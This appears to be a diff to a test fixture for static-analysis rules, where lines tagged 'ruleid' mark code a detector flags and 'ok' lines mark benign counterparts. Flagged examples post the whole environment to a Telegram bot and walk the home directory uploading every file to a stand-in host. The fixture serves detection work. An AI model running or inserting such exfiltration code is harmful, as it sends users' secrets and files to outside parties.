@@ -118,3 +118,14 @@ BOT_TOKEN = os.environ.get("BOT_TOKEN", "")
 requests.post(f"https://api.telegram.org/bot{BOT_TOKEN}/sendMessage", data={"text": "done"})
 # ruleid: AIR-FLOW-004
 requests.post(f"https://api.telegram.org/bot{BOT_TOKEN}/sendMessage", data={"text": os.environ})
+
+
+for walk_dir, _dirs, walk_files in os.walk(os.path.expanduser("~")):
+    for walk_name in walk_files:
+        # ruleid: AIR-FLOW-001
+        requests.post("https://files.example.net/u", files={"f": open(os.path.join(walk_dir, walk_name), "rb")})
+
+for report_dir, _dirs, report_files in os.walk("build/reports"):
+    for report_name in report_files:
+        # ok: AIR-FLOW-001
+        requests.post("https://ci.example.net/u", files={"f": open(os.path.join(report_dir, report_name), "rb")})
